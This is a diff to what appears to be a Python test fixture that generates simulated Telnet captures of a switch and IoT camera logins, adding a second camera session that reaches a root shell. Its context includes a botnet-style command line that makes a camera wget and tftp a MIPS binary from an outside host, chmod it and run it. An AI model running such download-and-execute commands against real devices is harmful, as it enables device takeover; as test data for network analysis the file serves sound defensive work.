@@ -1,4 +1,6 @@
-"""A switch is logged in to at the second try, and its clock is asked for; a camera is logged in to and made to fetch and run something."""
+"""A switch is logged in to at the second try, and its clock is asked for; a camera is logged in to and made to fetch and run something;
+somebody hangs up as soon as the shell of another one answers.
+"""
 
 from __future__ import annotations
 
@@ -33,3 +35,5 @@ def frames() -> Frames:
         (True, b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel\r\n"),
     ]
     yield from conversation((DESKTOP, "10.20.30.66", 49181), (CAMERA, "10.20.30.80", 23), parts)
+    parts = [(False, b"cam login: "), (True, b"root\r\n"), (False, b"Password: "), (True, b"other-secret\r\n"), (False, b"\r\n~ # ")]
+    yield from conversation((DESKTOP, "10.20.30.66", 49182), (CAMERA, "10.20.30.81", 23), parts)
